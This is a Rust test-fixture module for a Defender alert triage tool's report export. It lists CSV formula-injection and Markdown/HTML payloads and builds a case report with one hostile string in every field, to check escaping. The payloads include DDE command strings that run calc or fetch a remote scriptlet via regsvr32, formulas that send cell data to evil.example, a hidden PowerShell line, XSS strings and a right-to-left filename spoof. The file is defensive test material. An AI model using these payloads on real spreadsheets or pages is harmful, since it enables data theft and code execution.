//! Hostile text for the export tests: formula and Markdown payloads from public lists, and a
//! case that holds one string in every text field at once.

use chrono::{DateTime, TimeZone, Utc};
use mde_triage::case::Note;
use mde_triage::defender::model::{AlertComment, Evidence, RelatedUser};
use mde_triage::defender::{Alert, Severity, Status};
use mde_triage::report::{AlertEntry, CaseReport, Dated, Place, PlaceEntry, PlaceFacts, Step};

pub const PORTAL: &str = "https://security.microsoft.com";
pub const IP: &str = "10.209.67.177";

pub fn t(h: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 23, h, 0, 0).unwrap()
}

/// Formula payloads: OWASP's CSV Injection page, PayloadsAllTheThings' "CSV Injection" and
/// other public lists, with the separators and lookalikes that get around naive defences.
pub const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!E2",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\"=1+1\"",
    "\"\"=1+1",
    "x;=1+1",
    "x|=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\r\n@SUM(A1)",
    "x; \"-1+1",
    "\u{FF1D}1+1",
    "\u{FF0B}1+1",
    "\u{FF0D}1+1",
    "\u{FF20}SUM(A1)",
    "\u{3000}\u{FF1D}1",
    "-1",
    "powershell.exe -nop -w hidden -enc SQBFAFgA",
];

/// Markdown payloads: links, images, autolinks, HTML, entities, references, footnotes, wiki
/// links, math, emphasis, code, block markers and table breaks.
pub const MARKDOWN: &[&str] = &[
    "[click](javascript:alert(1))",
    "[x](https://evil.example)",
    "![img](https://evil.example/p.png)",
    "<https://evil.example>",
    "<a href=\"https://evil.example\">x</a>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden -->",
    "[ref]: https://evil.example",
    "[ref] [ref][] [x][ref]",
    "https://evil.example/x",
    "HTTP://EVIL.EXAMPLE",
    "ftp://evil.example/f",
    "www.evil.example",
    "see www.x now",
    "evil.example",
    "admin@evil.example",
    "a@_b.c _a@_b.c",
    "mailto:admin@evil.example",
    "xmpp:admin@evil.example/res",
    "file://evil.example/share",
    "&lt;script&gt; &#x3C;b&#x3E; &amp;",
    "| a | b |",
    "a\n\n# heading",
    "a\r\n> quote",
    "a\n- item",
    "a\n1. item",
    "# heading #",
    "> [!WARNING]",
    "`code` ``code``",
    "```\ncode\n```",
    "***",
    "---",
    "*em* _em_ **strong** __strong__ ~~del~~ ~sub~",
    "[^1]\n\n[^1]: https://evil.example",
    "[[wiki]] [[x|y]]",
    "$x$ $$x$$",
    "- [ ] task",
    "\\",
    "\\|",
    "a\\",
    "data:text/html;base64,PHNjcmlwdD4=",
    "hxxp://evil[.]example",
    "\u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "evil\u{202E}fdp.exe",
    "",
];

/// A case with `s` in every text field at once: case name, tenant, API host, IPs, tags, notes,
/// alert ids, and every field of an alert (title, description, user, device, comments,
/// evidence).
pub fn hostile_case(s: &str) -> CaseReport {
    let alert = Alert {
        id: s.into(),
        title: s.into(),
        description: format!("{s}\n{s}"),
        severity: Severity::from(s),
        status: Status::from(s),
        category: Some(s.into()),
        computer_dns_name: Some(s.into()),
        machine_id: Some(s.into()),
        alert_creation_time: Some(t(9)),
        mitre_techniques: vec![s.into(), "T1105".into()],
        related_user: Some(RelatedUser {
            user_name: Some(s.into()),
            domain_name: Some(s.into()),
        }),
        comments: vec![AlertComment {
            comment: s.into(),
            created_by: Some(s.into()),
            created_time: Some(t(10)),
        }],
        evidence: vec![Evidence {
            entity_type: Some(s.into()),
            file_name: Some(s.into()),
            file_path: Some(s.into()),
            sha256: Some(s.into()),
            process_command_line: Some(s.into()),
            ip_address: Some(s.into()),
            url: Some(s.into()),
            account_name: Some(s.into()),
            domain_name: Some(s.into()),
            detection_status: Some(s.into()),
        }],
        ..Alert::default()
    };
    let note = |h| Note {
        at: t(h),
        text: s.into(),
    };
    CaseReport {
        case: s.into(),
        created: t(8),
        updated: t(12),
        tenant_id: Some(s.into()),
        api_host: s.into(),
        portal: PORTAL.into(),
        path: vec![
            Step {
                at: t(8),
                place: Some(Place::Ip(IP.into())),
                alert: None,
            },
            Step {
                at: t(9),
                place: Some(Place::Ip(s.into())),
                alert: Some(s.into()),
            },
        ],
        places: vec![
            PlaceEntry {
                id: IP.into(),
                facts: PlaceFacts::Ip {
                    stats: vec![],
                    alerts: Some(Dated {
                        value: vec![alert.clone(), alert.clone()],
                        as_of: t(9),
                        caveats: Vec::new(),
                    }),
                },
                tags: vec![s.into(), "c2 infra".into()],
                notes: vec![note(10)],
            },
            PlaceEntry {
                id: s.into(),
                facts: PlaceFacts::Ip {
                    stats: vec![],
                    alerts: None,
                },
                tags: vec![s.into()],
                notes: vec![note(11), note(11)],
            },
        ],
        alerts: vec![AlertEntry {
            id: s.into(),
            alert: Some(alert),
            ips: Some(Dated {
                value: vec![s.into(), IP.into()],
                as_of: t(9),
                caveats: Vec::new(),
            }),
            tags: vec![s.into()],
            notes: vec![note(12)],
        }],
        calls: vec![],
    }
}
